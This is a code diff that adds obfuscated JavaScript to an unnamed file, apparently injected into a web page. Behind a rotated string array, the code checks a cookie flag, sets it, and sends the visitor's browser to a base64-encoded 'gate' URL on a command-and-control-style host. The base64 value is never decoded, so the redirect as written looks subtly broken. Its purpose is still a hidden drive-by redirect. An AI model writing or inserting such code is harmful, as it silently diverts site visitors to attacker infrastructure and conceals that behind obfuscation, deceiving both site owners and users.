@@ -1,0 +1,16 @@
+var _0x4e2a = ["charCodeAt", "cookie", "aHR0cHM6Ly9jbmMuZXhhbXBsZS5uZXQvZ2F0ZQ==", "write", "location", "replace", "length"];
+(function(_0x1b3c, _0x5d2e) {
+  var _0x3f1a = function(_0x2c4b) {
+    while (--_0x2c4b) {
+      _0x1b3c.push(_0x1b3c.shift());
+    }
+  };
+  _0x3f1a(++_0x5d2e);
+})(_0x4e2a, 3);
+var _0x21dd = function(_0x1f0b) {
+  return _0x4e2a[_0x1f0b - 0];
+};
+if (document[_0x21dd(5)].indexOf("mark") === -1) {
+  document[_0x21dd(5)] = "mark=1";
+  window[_0x21dd(1)][_0x21dd(2)](_0x21dd(6));
+}
